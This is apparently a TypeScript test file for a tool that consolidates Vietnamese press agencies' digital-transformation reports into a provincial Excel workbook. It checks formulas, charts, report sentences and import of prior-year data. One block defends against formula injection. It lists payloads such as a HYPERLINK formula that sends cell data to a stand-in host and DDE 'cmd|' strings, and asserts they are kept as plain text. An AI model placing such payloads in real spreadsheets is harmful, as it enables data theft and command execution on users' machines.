import type { AgencyTableName } from '../../src/domain/agency-schema';
import type { AgencyTables } from '../../src/domain/calculate';
import { consolidate, NOT_SUBMITTED, type Consolidation } from '../../src/domain/consolidate';
import { dateSerial, type Row, type Scalar } from '../../src/domain/values';
import { HEADERS, type Lang } from '../../src/workbook/labels';
import { PROVINCE_COLUMNS, PROVINCE_SCHEMA, PROVINCE_SHEET_NAMES, REPORT_DATE_NAME } from '../../src/workbook/province-labels';
import { submissionFromContent } from '../../src/app/merge';
import { INDEX_VERSIONS } from '../../src/indexes/index-versions';
import { buildProvinceWorkbookSpec, looksLikeFormula, readPreviousProvince, safeText } from '../../src/workbook/province-spec';
import type { TableSnapshot } from '../../src/workbook/read';
import type { CellSpec, TableSpec, WorkbookSpec } from '../../src/workbook/spec';
import { agencyFile, agencyTables, completeProvince, fileOf, intactFormulas, PLAN, REPORT_DATE, run, setInfo, setMeta, withCachedResults, YEAR } from './helpers';

const tables = (spec: WorkbookSpec): TableSpec[] => spec.sheets.flatMap((s) => s.tables);
const tableOf = (spec: WorkbookSpec, name: string): TableSpec => {
  const t = tables(spec).find((x) => x.name === name);
  if (!t) throw new Error(`no table ${name}`);
  return t;
};
/** A cell's value as Excel shows it: the cached result of a formula, else the constant. */
const shown = (c: CellSpec): Scalar => (c.formula !== undefined ? (c.result ?? null) : (c.value ?? null));
const cell = (t: TableSpec, rowIndex: number, key: string): CellSpec => {
  const j = t.columns.findIndex((c) => c.key === key);
  if (j < 0) throw new Error(`no column ${key} in ${t.name}`);
  return t.rows[rowIndex][j];
};
const rowWhere = (t: TableSpec, key: string, value: Scalar): number => {
  const i = t.rows.findIndex((_r, k) => shown(cell(t, k, key)) === value);
  if (i < 0) throw new Error(`no row ${key}=${String(value)} in ${t.name}`);
  return i;
};
const allCells = (spec: WorkbookSpec): CellSpec[] => spec.sheets.flatMap((s) => [...s.cells.map((c) => c.cell), ...s.tables.flatMap((t) => t.rows.flat())]);

const previous = { year: 2024, agencies: [{ unitId: 'BQT', total: 60, level: 'Trung bình' }] };

describe('the province workbook spec', () => {
  const c = run(completeProvince(), { previous });
  const spec = buildProvinceWorkbookSpec(c, 'vi');

  test('sheets, tables and the hidden meta with schema pressdx-province', () => {
    expect(spec.sheets.map((s) => [s.name, s.visible])).toEqual([
      ['Báo cáo', true], ['Tổng hợp mục tiêu', true], ['Tổng hợp nhiệm vụ', true], ['Nhiệm vụ theo đơn vị', true],
      ['Tổng hợp chỉ số', true], ['Nguồn dữ liệu', true], ['Sai lệch', true], ['_PressDX', false],
    ]);
    expect(tables(spec).map((t) => t.name).sort()).toEqual(['tblBaoCao', 'tblCot', 'tblMeta', 'tblNguon', 'tblSaiLech', 'tblTHChiSo', 'tblTHMucTieu', 'tblTHNhiemVu', 'tblTHNhiemVuDV']);
    const meta = tableOf(spec, 'tblMeta');
    const m = Object.fromEntries(meta.rows.map((r) => [r[0].value, r[1].value]));
    expect(m).toMatchObject({ schema: PROVINCE_SCHEMA, formatVersion: 1, planId: 'quang-tri-2023', year: 2025, generatedAt: '2025-12-01T08:00:00Z', generator: 'test', sourcesUsed: 4, sourcesTotal: 4, seal: c.seal, previousYear: 2024 });
    for (const s of spec.sheets.filter((x) => x.visible)) {
      expect(s.print).toMatchObject({ landscape: true, fitToWidth: true });
      expect(s.freezeRows).toBe(s.tables[0].row);
      expect(s.print?.repeatRows).toEqual([s.tables[0].row, s.tables[0].row]);
    }
  });

  test('tblCot lists every column of every table by key and header', () => {
    const cot = tableOf(spec, 'tblCot').rows.map((r) => `${r[0].value}|${r[1].value}|${r[2].value}`).sort();
    const actual = tables(spec).flatMap((t) => t.columns.map((col) => `${t.name}|${col.key}|${col.header}`)).sort();
    expect(cot).toEqual(actual);
    for (const [name, keys] of Object.entries(PROVINCE_COLUMNS)) for (const k of keys) expect(actual).toContain(`${name}|${k}|${tableOf(spec, name).columns.find((x) => x.key === k)?.header}`);
  });

  test('targets: one row per target, counts as constants, value/attainment/status as formulas with the engine results, one column per press agency', () => {
    const t = tableOf(spec, 'tblTHMucTieu');
    expect(t.rows.map((_r, i) => shown(cell(t, i, 'code')))).toEqual(PLAN.targets.map((x) => x.code));
    expect(t.columns.slice(-3).map((x) => [x.key, x.header])).toEqual([['a_BQT', 'Báo Quảng Trị'], ['a_PTTH', 'Đài Phát thanh - Truyền hình tỉnh'], ['a_TCCV', 'Tạp chí Cửa Việt']]);
    const i = rowWhere(t, 'code', 'MT25-1');
    expect(['expected', 'meeting', 'numerator', 'denominator'].map((k) => cell(t, i, k).value)).toEqual([3, 2, 2, 3]);
    expect(cell(t, i, 'value').formula).toBe('=IFERROR(IF(AND(ISNUMBER(tblTHMucTieu[[#This Row],[Tử số]]),ISNUMBER(tblTHMucTieu[[#This Row],[Mẫu số]])),IF(tblTHMucTieu[[#This Row],[Mẫu số]]>0,tblTHMucTieu[[#This Row],[Tử số]]/tblTHMucTieu[[#This Row],[Mẫu số]],""),""),"")');
    expect(cell(t, i, 'value').result).toBeCloseTo(2 / 3, 12);
    expect(cell(t, i, 'status')).toMatchObject({ role: 'calc', result: 'Chưa đạt' });
    expect(cell(t, i, 'attainment').result).toBeCloseTo(2 / 3 / 0.75, 12);
    expect(['a_BQT', 'a_PTTH', 'a_TCCV'].map((k) => [cell(t, i, k).value, cell(t, i, k).formula])).toEqual([
      ['Đạt (Có)', undefined],
      ['Đạt (Có)', undefined],
      ['Chưa đạt (Không)', undefined],
    ]);
    const r = rowWhere(t, 'code', 'MT25-4');
    expect([cell(t, r, 'numerator').value, cell(t, r, 'denominator').value, cell(t, r, 'status').result]).toEqual([3, 6, 'Đạt']);
    expect(cell(t, r, 'threshold')).toMatchObject({ value: 0.5, numberFormat: '0.0%' });
    expect(cell(t, r, 'value').numberFormat).toBe('0.0%');
  });

  test('tasks: summary row per task with live counts over the long-form table; due as dd/mm/yyyy', () => {
    const t = tableOf(spec, 'tblTHNhiemVu');
    expect(t.rows).toHaveLength(PLAN.tasks.length);
    const i = rowWhere(t, 'no', 6);
    expect(cell(t, i, 'due')).toMatchObject({ value: 46022, numberFormat: 'dd/mm/yyyy' });
    expect([cell(t, i, 'leads').value, cell(t, i, 'leadsDone').result, cell(t, i, 'state').result, cell(t, i, 'overdue').result]).toEqual([3, 2, 'Đang thực hiện', '']);
    expect(cell(t, i, 'overdue').formula).toContain(`${REPORT_DATE_NAME}>`);
    const dv = tableOf(spec, 'tblTHNhiemVuDV');
    expect(dv.rows).toHaveLength(c.tasks.reduce((n, x) => n + x.units.length, 0));
    const k = dv.rows.findIndex((_r, j) => shown(cell(dv, j, 'no')) === 6 && shown(cell(dv, j, 'unitId')) === 'PTTH');
    expect(['role', 'reported', 'status', 'progress'].map((key) => cell(dv, k, key).value)).toEqual(['Chủ trì', 'Có', 'Đang thực hiện', 0.4]);
    expect(cell(dv, k, 'progress').numberFormat).toBe('0%');
    expect(spec.names).toEqual([{ name: REPORT_DATE_NAME, refersTo: "'Báo cáo'!$B$3", comment: 'Ngày báo cáo' }]);
    const report = spec.sheets[0].cells.find((x) => x.row === 3 && x.col === 2)?.cell;
    expect(report).toMatchObject({ value: REPORT_DATE, numberFormat: 'dd/mm/yyyy' });
  });

  test('index: pillar points, total and level as constants; rank, completeness and change as formulas', () => {
    const t = tableOf(spec, 'tblTHChiSo');
    expect(t.columns.filter((x) => /^p\d$/.test(x.key)).map((x) => x.header)).toEqual([
      'Chiến lược (18)', 'Hạ tầng số, nền tảng số và an toàn thông tin (24)', 'Sự đồng nhất về tổ chức và chuyên môn (20)', 'Độc giả, khán giả, thính giả (23)', 'Mức độ ứng dụng công nghệ số (15)',
    ]);
    const i = rowWhere(t, 'unitId', 'BQT');
    expect(['p1', 'p2', 'p3', 'p4', 'p5', 'total', 'level', 'previousTotal'].map((k) => cell(t, i, k).value)).toEqual([12, 16, 14, 16, 10, 68, 'Khá', 60]);
    expect([cell(t, i, 'rank').result, cell(t, i, 'change').result, cell(t, i, 'completeness').result]).toEqual([2, 8, 1]);
    expect(cell(t, i, 'rank').formula).toBe('=IF(ISNUMBER(tblTHChiSo[[#This Row],[Tổng điểm]]),RANK(tblTHChiSo[[#This Row],[Tổng điểm]],tblTHChiSo[Tổng điểm],0),"")');
  });

  test('sources: file, SHA-256, unit, versions, submitted on, on time, errors, warnings, handling', () => {
    const t = tableOf(spec, 'tblNguon');
    const i = rowWhere(t, 'unitId', 'TCCV');
    const s = c.sources.find((x) => x.unitId === 'TCCV')!;
    expect(['file', 'sha256', 'unit', 'year', 'formatVersion', 'indexVersion', 'submittedOn', 'onTime', 'errors', 'warnings', 'state', 'reason'].map((k) => cell(t, i, k).value)).toEqual([
      s.fileName, s.sha256, 'Tạp chí Cửa Việt', 2025, 1, '3560-2025', dateSerial(2025, 11, 20), 'Đúng hạn', 1, 1, 'Sử dụng', '',
    ]);
    expect(cell(t, i, 'submittedOn').numberFormat).toBe('dd/mm/yyyy');
  });

  test('charts are declared over existing table columns', () => {
    expect(spec.charts?.map((x) => [x.type, x.sheetKey, x.categoriesRef, x.valuesRef, x.thresholdRef])).toEqual([
      ['bar', 'targets', 'tblTHMucTieu[Mã]', 'tblTHMucTieu[Giá trị toàn tỉnh]', 'tblTHMucTieu[Ngưỡng]'],
      ['bar', 'index', 'tblTHChiSo[Cơ quan báo chí]', 'tblTHChiSo[Tổng điểm]', undefined],
      ['radar', 'index', "'Tổng hợp chỉ số'!$D$4:$H$4", undefined, undefined],
    ]);
  });

  /** The cells of a one-row reference on the index sheet, from the spec's tblTHChiSo (header row or a data row). */
  const rowCells = (t: TableSpec, ref: string): Scalar[] => {
    const m = /^'Tổng hợp chỉ số'!\$([A-Z])\$(\d+):\$([A-Z])\$(\d+)$/.exec(ref);
    if (!m) throw new Error(`not a row reference: ${ref}`);
    expect(m[2]).toBe(m[4]);
    const [c1, c2, row] = [m[1].charCodeAt(0) - 64 - t.col, m[3].charCodeAt(0) - 64 - t.col, Number(m[2])];
    const cols = t.columns.slice(c1, c2 + 1);
    return row === t.row ? cols.map((x) => x.header) : cols.map((_x, j) => shown(t.rows[row - t.row - 1][c1 + j]));
  };

  test('radar: the 5 pillars as categories, one series per included press agency over its row of pillar points', () => {
    const t = tableOf(spec, 'tblTHChiSo');
    const radar = spec.charts!.find((x) => x.type === 'radar')!;
    expect(radar).toMatchObject({ sheetKey: 'index', title: 'Điểm theo trụ cột của từng cơ quan báo chí', numberFormat: '0.00' });
    expect(rowCells(t, radar.categoriesRef)).toEqual(c.index.pillars.map((p) => `${p.name} (${p.maxPoints})`));
    expect(rowCells(t, radar.categoriesRef)).toHaveLength(5);
    const included = c.indexRows.filter((r) => r.reported);
    expect(included.map((r) => r.unitId)).toEqual(['BQT', 'PTTH', 'TCCV']);
    expect(radar.series?.map((x) => x.name)).toEqual(included.map((r) => r.unitName));
    for (const [k, x] of (radar.series ?? []).entries()) expect(rowCells(t, x.valuesRef)).toEqual(included[k].pillarPoints);
    expect(rowCells(t, radar.series![0].valuesRef)).toEqual([12, 16, 14, 16, 10]);
    // Beside the bar chart of totals, not over it.
    const bar = spec.charts!.find((x) => x.sheetKey === 'index' && x.type === 'bar')!;
    expect(radar.anchor.row).toBe(bar.anchor.row);
    expect(radar.anchor.col).toBeGreaterThan(bar.anchor.col + bar.anchor.widthCols - 1);
  });

  test('radar: an agency without a used file has no series; with none there is no radar', () => {
    const partial = buildProvinceWorkbookSpec(run([agencyFile('BQT'), agencyFile('PTTH')], { previous }), 'vi');
    const radar = partial.charts!.find((x) => x.type === 'radar')!;
    expect(radar.series?.map((x) => x.valuesRef)).toEqual(["'Tổng hợp chỉ số'!$D$5:$H$5", "'Tổng hợp chỉ số'!$D$6:$H$6"]);
    expect(partial.charts!.map((x) => x.type)).toEqual(['bar', 'bar', 'radar']);
    expect(buildProvinceWorkbookSpec(run([]), 'vi').charts!.map((x) => x.type)).toEqual(['bar', 'bar']);
  });
});

describe.each<Lang>(['vi', 'en'])('formulas (%s)', (lang) => {
  const c = run([agencyFile('BQT'), agencyFile('PTTH'), agencyFile('STTTT')], { previous });
  const spec = buildProvinceWorkbookSpec(c, lang);

  test('every formula references existing tables, headers and names, in invariant syntax', () => {
    const headers = new Map(tables(spec).map((t) => [t.name, new Set(t.columns.map((x) => x.header))]));
    const names = new Set(spec.names.map((n) => n.name));
    let count = 0;
    for (const cellSpec of allCells(spec)) {
      if (cellSpec.formula === undefined) continue;
      count++;
      expect(cellSpec.formula.startsWith('=')).toBe(true);
      expect(cellSpec.role).toBe('calc');
      expect(cellSpec.result).not.toBeUndefined();
      // Outside string literals: no ";" argument separators (invariant syntax uses ",").
      expect(cellSpec.formula.replace(/"[^"]*"/g, '')).not.toContain(';');
      let rest = cellSpec.formula.replace(/(tbl\w+)\[\[#This Row\],\[([^\]]+)\]\]/g, (_m, t: string, h: string) => {
        expect(headers.get(t)?.has(h)).toBe(true);
        return 'X';
      });
      rest = rest.replace(/(tbl\w+)\[([^\]]+)\]/g, (_m, t: string, h: string) => {
        expect(headers.get(t)?.has(h)).toBe(true);
        return 'X';
      });
      expect(rest).not.toMatch(/\[/);
      for (const id of rest.replace(/"[^"]*"/g, '').match(/\b[a-z][A-Za-z]+\b/g) ?? []) expect(names.has(id)).toBe(true);
    }
    expect(count).toBeGreaterThan(50);
  });

  test('each formula column holds one formula in every row (an Excel calculated column)', () => {
    for (const t of tables(spec)) {
      t.columns.forEach((col, j) => {
        const formulas = new Set(t.rows.map((r) => r[j].formula));
        if ([...formulas].some((f) => f !== undefined)) expect([t.name, col.key, formulas.size]).toEqual([t.name, col.key, 1]);
      });
    }
  });
});

describe('formula injection: text from agency files is written as plain values', () => {
  const payloads = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=2+2'];
  const [p0, p1, p2, p3, p4, p5] = payloads;

  const injected = (): AgencyTables => {
    const t = agencyTables('BQT');
    setInfo(t, { preparer: p0, phone: p1, email: p2 });
    t.tblChiTieu = (t.tblChiTieu ?? []).map((r, i) => ({ ...r, evidence: payloads[i % 6], note: payloads[(i + 1) % 6] }));
    t.tblNhiemVu = (t.tblNhiemVu ?? []).map((r, i) => ({ ...r, status: i === 0 ? p3 : r.status, progress: i === 1 ? p4 : r.progress, result: p0, evidence: p1, difficulties: p2, proposals: p5 }));
    t.tblChiSo = (t.tblChiSo ?? []).map((r) => ({ ...r, evidence: p4, note: p3 }));
    setMeta(t, 'generatedAt', p5);
    return withCachedResults(t);
  };
  const foreign = agencyTables('PTTH');
  setInfo(foreign, { unit: p1 });
  const stored = injected();
  const f = intactFormulas(stored);
  stored.tblMucTieu = (stored.tblMucTieu ?? []).map((r) => ({ ...r, status: p0 })); // injected into a calculated cell too
  f.tblMucTieu = (f.tblMucTieu ?? []).map((r) => ({ ...r, status: null }));
  const c = run([fileOf(stored, { fileName: `${p0}.xlsx`, formulas: f }), fileOf(withCachedResults(foreign), { fileName: p2 }), agencyFile('PTTH'), agencyFile('TCCV')]);
  const spec = buildProvinceWorkbookSpec(c, 'vi');

  test('no formula contains any payload', () => {
    for (const x of allCells(spec)) if (x.formula) for (const p of payloads) expect(x.formula).not.toContain(p.trim());
  });

  test('every payload is in the spec verbatim as a string value in text format', () => {
    const holding = (p: string) => allCells(spec).filter((x) => typeof x.value === 'string' && x.value.includes(p));
    for (const p of payloads) {
      const cells = holding(p);
      expect(cells.length).toBeGreaterThan(0);
      for (const x of cells) {
        expect(x.formula).toBeUndefined();
        expect(x.role).not.toBe('calc');
        if (x.value === p) expect(x.numberFormat).toBe('@');
      }
    }
    const dv = tableOf(spec, 'tblTHNhiemVuDV');
    const k = dv.rows.findIndex((_r, j) => cell(dv, j, 'no').value === 1 && cell(dv, j, 'unitId').value === 'BQT');
    expect(['status', 'result', 'evidence', 'difficulties', 'proposals'].map((key) => cell(dv, k, key).value)).toEqual([p3, p0, p1, p2, p5]);
    const k2 = dv.rows.findIndex((_r, j) => cell(dv, j, 'no').value === 2 && cell(dv, j, 'unitId').value === 'BQT');
    expect(cell(dv, k2, 'progress')).toMatchObject({ value: p4, numberFormat: '@' });
    const src = tableOf(spec, 'tblNguon');
    expect(src.rows.slice(0, 2).map((_r, j) => cell(src, j, 'file').value)).toEqual([`${p0}.xlsx`, p2]);
    expect(cell(src, 1, 'state').value).toBe('Loại');
    expect(cell(src, 1, 'unit').value).toBe(p1);
    expect(cell(src, 0, 'generatedAt').value).toBe(p5);
    const mis = tableOf(spec, 'tblSaiLech');
    expect(mis.rows.some((r, j) => cell(mis, j, 'stored').value === p0 && r.every((x) => x.formula === undefined))).toBe(true);
  });

  test('every string value that looks like a formula is plain text, never a formula', () => {
    const suspicious = allCells(spec).filter((x) => typeof x.value === 'string' && looksLikeFormula(x.value));
    expect(suspicious.length).toBeGreaterThanOrEqual(payloads.length);
    for (const x of suspicious) expect([x.formula, x.role, x.numberFormat]).toEqual([undefined, 'fixed', '@']);
  });

  test('the status the agency typed is not a task status: the task is not counted as done', () => {
    // PTTH and TCCV report task 1 Hoàn thành; BQT's injected text is not Hoàn thành.
    const task1 = c.tasks.find((t) => t.task.no === 1)!;
    expect(task1.units.map((u) => u.status)).toEqual([p3, 'Hoàn thành', 'Hoàn thành', NOT_SUBMITTED]);
    expect([task1.leadsDone, task1.state]).toEqual([2, 'Đang thực hiện']);
  });

  test('safeText keeps text exactly and turns other values into text', () => {
    expect(payloads.map((p) => safeText(p))).toEqual(payloads);
    expect([safeText(12), safeText(null), safeText({ error: '#N/A' }), safeText(true)]).toEqual(['12', '', '#N/A', 'true']);
    expect(payloads.every(looksLikeFormula)).toBe(true);
    expect(looksLikeFormula('Báo cáo')).toBe(false);
  });
});

describe('report sentences: the numbers are the table numbers', () => {
  const subs = [agencyFile('BQT'), agencyFile('PTTH'), agencyFile('STTTT')];
  const c = run(subs, { previous });
  const spec = buildProvinceWorkbookSpec(c, 'vi');
  const report = tableOf(spec, 'tblBaoCao');
  // The report names the sheet a sentence comes from; the test finds that sheet's table.
  const sheetTable = (sheet: string) => spec.sheets.find((x) => x.name === sheet)?.tables[0]?.name ?? `no sheet ${sheet}`;
  const sentences = report.rows.map((_r, i) => ({ text: String(cell(report, i, 'sentence').value), table: sheetTable(String(cell(report, i, 'sourceTable').value)), key: String(cell(report, i, 'sourceKey').value) }));
  const vn = (s: string) => Number(s.replace(/\./g, '').replace(',', '.'));
  const pct = (x: Scalar) => (Number(x) * 100).toFixed(1).replace('.', ',');

  test('the example sentence of the issue, word for word', () => {
    expect(sentences.map((s) => s.text)).toContain('Có 2/3 cơ quan báo chí (66,7%) đưa nội dung lên các nền tảng số, chưa đạt mục tiêu 75% đến năm 2025. Tính là chưa đạt do chưa gửi báo cáo: Tạp chí Cửa Việt.');
  });

  test('each target sentence quotes its row of tblTHMucTieu', () => {
    const t = tableOf(spec, 'tblTHMucTieu');
    const targetSentences = sentences.filter((s) => s.table === 'tblTHMucTieu');
    expect(targetSentences.map((s) => s.key)).toEqual(PLAN.targets.map((x) => x.code));
    for (const s of targetSentences) {
      const i = rowWhere(t, 'code', s.key);
      const share = /^Có (\d+)\/(\d+) cơ quan báo chí \(([\d,]+)%\) .*, (đạt|chưa đạt) mục tiêu (\d+)% đến năm (\d{4})\./.exec(s.text);
      const ratio = /^Các cơ quan báo chí có ([\d.,]+)\/([\d.,]+) .* \(([\d,]+)%\) .*, (đạt|chưa đạt) mục tiêu (\d+)% đến năm (\d{4})\./.exec(s.text);
      const m = share ?? ratio;
      expect(m).not.toBeNull();
      if (!m) continue;
      const [a, b] = share ? [cell(t, i, 'meeting').value, cell(t, i, 'expected').value] : [cell(t, i, 'numerator').value, cell(t, i, 'denominator').value];
      expect([vn(m[1]), vn(m[2])]).toEqual([a, b]);
      expect(m[3]).toBe(pct(cell(t, i, 'value').result ?? null));
      expect(m[4] === 'đạt' ? 'Đạt' : 'Chưa đạt').toBe(cell(t, i, 'status').result);
      expect(Number(m[5]) / 100).toBe(cell(t, i, 'threshold').value);
      expect(Number(m[6])).toBe(cell(t, i, 'year').value);
      // Missing agencies named in the table are named in the sentence.
      for (const name of String(cell(t, i, 'missing').value).split('; ').filter(Boolean)) expect(s.text).toContain(name.replace(/ \(.*\)$/, ''));
    }
  });

  test('index sentences quote total, rank and change of their tblTHChiSo row', () => {
    const t = tableOf(spec, 'tblTHChiSo');
    const s = sentences.find((x) => x.table === 'tblTHChiSo' && x.key === 'BQT')!;
    const i = rowWhere(t, 'unitId', 'BQT');
    const m = /đạt ([\d,]+)\/100 điểm, mức (.+), xếp thứ (\d+)\/(\d+) .*, (tăng|giảm) ([\d,]+) điểm so với năm 2024\.$/.exec(s.text);
    expect(m).not.toBeNull();
    expect([vn(m![1]), m![2], Number(m![3]), (m![5] === 'giảm' ? -1 : 1) * vn(m![6])]).toEqual([cell(t, i, 'total').value, cell(t, i, 'level').value, cell(t, i, 'rank').result, cell(t, i, 'change').result]);
    expect(sentences.find((x) => x.table === 'tblTHChiSo' && x.key === 'TCCV')?.text).toBe('Tạp chí Cửa Việt chưa gửi kết quả tự đánh giá mức độ trưởng thành chuyển đổi số.');
  });

  test('task and source sentences count the rows of their tables', () => {
    const t = tableOf(spec, 'tblTHNhiemVu');
    const states = t.rows.map((_r, i) => cell(t, i, 'state').result);
    const s = sentences.find((x) => x.table === 'tblTHNhiemVu' && x.text.startsWith('Trong '))!;
    const count = (state: string) => states.filter((x) => x === state).length;
    expect(s.text).toBe(`Trong ${t.rows.length} nhiệm vụ được phân công: ${count('Hoàn thành')} nhiệm vụ đã hoàn thành, ${count('Đang thực hiện')} nhiệm vụ đang thực hiện, ${count('Chưa thực hiện')} nhiệm vụ chưa thực hiện.`);
    const src = tableOf(spec, 'tblNguon');
    const used = src.rows.filter((_r, i) => cell(src, i, 'state').value === 'Sử dụng').length;
    expect(sentences[0].text).toBe(`Đã nhận ${src.rows.length} tệp báo cáo; sử dụng ${used} tệp, 0 tệp bị thay thế bởi bản mới hơn, 0 tệp bị loại.`);
  });

  test('the report names sheets people see, never an internal table or cell name', () => {
    const visible = spec.sheets.filter((x) => x.visible !== false);
    const texts = visible.flatMap((sh) => [...sh.cells.map((c) => c.cell.value), ...sh.tables.flatMap((t) => [...t.columns.map((c) => c.header), ...t.rows.flat().map((c) => c.value)])]);
    const internal = texts.filter((v): v is string => typeof v === 'string' && /\btbl[A-Z]|TongDiem|MucDo\b/.test(v));
    expect(internal).toEqual([]);
    expect(report.rows.map((_r, i) => String(cell(report, i, 'sourceTable').value))).toEqual(expect.arrayContaining([PROVINCE_SHEET_NAMES.vi.targets, PROVINCE_SHEET_NAMES.vi.sources]));
  });

  test('the timeliness sentence is true of the same rows as the receipt sentence', () => {
    const src = tableOf(spec, 'tblNguon');
    const used = src.rows.map((_r, i) => i).filter((i) => cell(src, i, 'state').value === 'Sử dụng');
    const onTime = used.filter((i) => cell(src, i, 'onTime').value === 'Đúng hạn').length;
    const receipt = sentences.find((x) => x.text.startsWith('Đã nhận báo cáo của'))!;
    expect(receipt.text).toContain('chưa nhận: Tạp chí Cửa Việt');
    // TCCV sent nothing: no sentence may say that every unit reported on time.
    expect(sentences.some((x) => /^Các đơn vị đều/.test(x.text))).toBe(false);
    const timely = sentences.find((x) => /đều gửi đúng hạn/.test(x.text))!;
    const m = /^Cả (\d+) đơn vị đã gửi báo cáo đều gửi đúng hạn/.exec(timely.text);
    expect(Number(m?.[1])).toBe(used.length);
    expect(onTime).toBe(used.length);
  });

  test('every sentence names an existing table, and its key is a row of it', () => {
    const keyColumn: Record<string, string> = { tblTHMucTieu: 'code', tblTHChiSo: 'unitId', tblTHNhiemVu: 'no', tblNguon: 'file' };
    for (const s of sentences) {
      const t = tableOf(spec, s.table);
      if (s.key === '') continue;
      for (const k of s.key.split(', ')) {
        const col = keyColumn[s.table];
        expect(t.rows.some((_r, i) => String(shown(cell(t, i, col))) === k)).toBe(true);
      }
    }
  });

  test('a mismatch and a late file each get a sentence', () => {
    const late = agencyTables('TCCV');
    setInfo(late, { submittedOn: 46010 }); // 04/12/2025
    const lateFile = fileOf(withCachedResults(late), { fileName: 'tccv-muon.xlsx' });
    const edited = withCachedResults(agencyTables('PTTH'));
    edited.tblTruCot![0] = { ...edited.tblTruCot![0], points: 1 };
    const c2 = run([agencyFile('BQT'), fileOf(edited, { fileName: 'ptth.xlsx' }), lateFile]);
    const texts = c2.sentences.map((x) => x.text);
    expect(texts).toContain('Có 1 đơn vị gửi báo cáo sau hạn (hạn: trước ngày 25/11/2025): Tạp chí Cửa Việt.');
    expect(texts).toContain('Có 1 ô trong tệp của Đài Phát thanh - Truyền hình tỉnh khác với kết quả tính lại (ô tự tính bị ghi đè, chưa tính lại hoặc dữ liệu cố định bị sửa); số liệu tổng hợp dùng kết quả tính lại từ số liệu nhập.');
  });
});

describe('readers glue', () => {
  /** Snapshots as an adapter reads them: one table per sheet, header at row 1, Vietnamese headers. */
  const snapshotsOf = (t: AgencyTables): TableSnapshot[] =>
    (Object.entries(t) as Array<[AgencyTableName, Row[]]>).map(([name, rows]) => {
      const keys = Object.keys(HEADERS.vi[name]);
      const f = intactFormulas(t)[name] ?? [];
      return { name, sheetName: name, row: 1, col: 1, headers: keys.map((k) => HEADERS.vi[name][k]), values: rows.map((r) => keys.map((k) => r[k] ?? null)), formulas: f.map((r) => keys.map((k) => r[k] ?? null)) };
    });

  test('submissionFromContent feeds consolidate like any reader, with located findings', () => {
    const t = withCachedResults(agencyTables('TCCV'));
    const content = { tables: snapshotsOf(t), namedCells: { TongDiem: { sheet: 'Chỉ số', address: 'L12', formula: null, value: 99 } } };
    const sub = submissionFromContent({ fileName: 'tccv.xlsx', sha256: 'ab', sizeBytes: 10 }, content, { plan: PLAN, indexVersions: INDEX_VERSIONS });
    const c: Consolidation = consolidate([sub], { plan: PLAN, indexVersions: INDEX_VERSIONS, year: YEAR, reportDate: REPORT_DATE });
    expect(c.sources[0]).toMatchObject({ state: 'included', unitId: 'TCCV', errors: 2, warnings: 1 });
    expect(c.sources[0].findings.find((x) => x.code === 'required')?.address).toBe('F6');
    expect(c.mismatches.map((m) => [m.key, m.stored, m.recomputed])).toEqual([['TongDiem', 99, 46]]);
    expect(c.indexRows.find((r) => r.unitId === 'TCCV')?.total).toBe(46);
  });

  test('a province workbook read back gives the previous year figures', () => {
    const spec = buildProvinceWorkbookSpec(run(completeProvince()), 'en');
    const snaps: TableSnapshot[] = tables(spec).map((t) => ({
      name: t.name, sheetName: 'x', row: t.row, col: t.col, headers: t.columns.map((x) => x.header),
      values: t.rows.map((r) => r.map(shown)), formulas: t.rows.map((r) => r.map((x) => x.formula ?? null)),
    }));
    const prev = readPreviousProvince(snaps, 'tong-hop-2025.xlsx');
    // Version, catalogue and pillar points come back too: next year compares on them when versions differ.
    const pillarLevel = { indexVersion: '3560-2025', catalogueId: '' };
    expect(prev).toEqual({ year: 2025, fileName: 'tong-hop-2025.xlsx', agencies: [
      { unitId: 'BQT', total: 68, level: 'Khá', ...pillarLevel, pillarPoints: [12, 16, 14, 16, 10] },
      { unitId: 'PTTH', total: 82, level: 'Tốt', ...pillarLevel, pillarPoints: [15, 20, 15, 20, 12] },
      { unitId: 'TCCV', total: 46, level: 'Chưa hoàn thành (4/5)', ...pillarLevel, pillarPoints: [10, 12, 10, 14, 0] },
    ] });
    expect(readPreviousProvince(snaps.filter((s) => s.name !== 'tblMeta'))).toEqual({ error: 'Không phải bảng tổng hợp của tỉnh (schema "").' });
  });
});
